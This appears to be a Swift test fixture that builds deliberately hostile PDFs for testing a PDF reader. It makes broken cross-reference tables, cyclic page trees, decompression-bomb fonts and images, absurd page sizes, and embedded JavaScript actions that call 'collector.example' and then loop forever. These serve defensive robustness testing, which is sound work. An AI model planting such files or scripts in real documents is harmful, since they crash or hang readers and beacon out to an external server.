/// PDFs made to harm whoever opens them.
package enum HostilePDF {
  /// A page with a table of one answer, as text.
  private static var form: SamplePDF {
    var page = SamplePDF()
    page.grid(columns: [50, 250, 500], rows: [100, 130])
    page.text("Attendance", x: 60, y: 120, font: SamplePDF.label)
    page.text("94%", x: 260, y: 120, font: SamplePDF.answer)
    return page
  }

  /// The places that the table of objects gives are all wrong.
  package static var wrongPlaces: [UInt8] {
    let text = String(decoding: form.bytes(), as: UTF8.self)
    return Array(
      text.replacing(" 00000 n ", with: " 00007 n ").replacing("00000000", with: "00007000").utf8)
  }

  /// The end sends readers to a table that names itself as the one before, for ever.
  package static var endlessTables: [UInt8] {
    let text = String(decoding: form.bytes(), as: UTF8.self)
    guard let start = text.firstRange(of: "xref\n") else { return [] }
    let place = text.utf8.distance(from: text.startIndex, to: start.lowerBound)
    return Array(text.replacing("/Root 1 0 R", with: "/Root 1 0 R/Prev \(place)").utf8)
  }

  /// The table is gone, and the pages hang under one another in a ring.
  package static var endlessPages: [UInt8] {
    let file = SamplePDF.file([
      "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 9/Parent 3 0 R>>",
      "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9/Parent 2 0 R>>",
    ])
    let text = String(decoding: file, as: UTF8.self)
    return Array(text.prefix { $0 != "x" }.utf8) + Array("startxref\n99999999\n%%EOF\n".utf8)
  }

  /// Scripts at the opening, on the page and on a key press, that would call a server.
  package static var scripts: [UInt8] {
    let script =
      "/S/JavaScript/JS(app.launchURL\\('http://collector.example/'\\); while\\(true\\);)"
    let text = String(decoding: form.bytes(), as: UTF8.self)
    return Array(
      text.replacing("/Type/Catalog", with: "/Type/Catalog/OpenAction<<\(script)>>")
        .replacing("/Type/Page/", with: "/Type/Page/AA<</O<<\(script)>>/C<<\(script)>>>>/").utf8)
  }

  /// A hundred megabytes that call themselves a font, set at a size of kilometres.
  package static var font: [UInt8] {
    page(
      "BT /H 10 Tf 60 700 Td (Attendance 94%) Tj /F 900000000 Tf (Attendance) Tj ET",
      resources: "/Font<</F 5 0 R/H<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>",
      objects: [
        "<</Type/Font/Subtype/TrueType/BaseFont/Vast/FirstChar 0/LastChar 2000000000"
          + "/Encoding/WinAnsiEncoding/FontDescriptor 6 0 R>>",
        "<</Type/FontDescriptor/FontName/Vast/Flags 32/FontBBox[-1e30 -1e30 1e30 1e30]"
          + "/ItalicAngle 0/Ascent 1e30/Descent -1e30/CapHeight 1e30/StemV 1e30/FontFile2 7 0 R>>",
        zeros(100 << 20),
      ])
  }

  /// A page filled by a picture of 900 million pixels, of which hardly any are there.
  package static var picture: [UInt8] {
    page(
      "q 595 0 0 842 0 0 cm /I Do Q", resources: "/XObject<</I 5 0 R>>",
      objects: [
        zeros(
          1 << 20,
          "/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 8"
            + "/ColorSpace/DeviceRGB")
      ])
  }

  /// A page as large as a country, and one whose size is no number that a machine counts with.
  package static func page(side: String) -> [UInt8] {
    page("BT /F 10 Tf 60 700 Td (Attendance 94%) Tj ET", side: side)
  }

  private static func page(
    _ operators: String,
    resources: String = "/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>",
    side: String = "842", objects: [String] = []
  ) -> [UInt8] {
    SamplePDF.file(
      [
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 \(side) \(side)]/Contents 4 0 R"
          + "/Resources<<\(resources)>>>>",
        "<</Length \(operators.utf8.count)>>\nstream\n\(operators)\nendstream",
      ] + objects)
  }

  /// A stream of so many zeros; in hexadecimal, since the file is built as text.
  private static func zeros(_ count: Int, _ entries: String = "") -> String {
    let digits = Array("0123456789abcdef".utf8)
    let hexadecimal = DeflatedZeros.zlib(count).flatMap {
      [digits[Int($0 >> 4)], digits[Int($0 & 15)]]
    }
    let text = String(decoding: hexadecimal, as: UTF8.self)
    return "<<\(entries)/Length \(text.utf8.count + 1)/Filter[/ASCIIHexDecode/FlateDecode]>>\n"
      + "stream\n\(text)>\nendstream"
  }
}
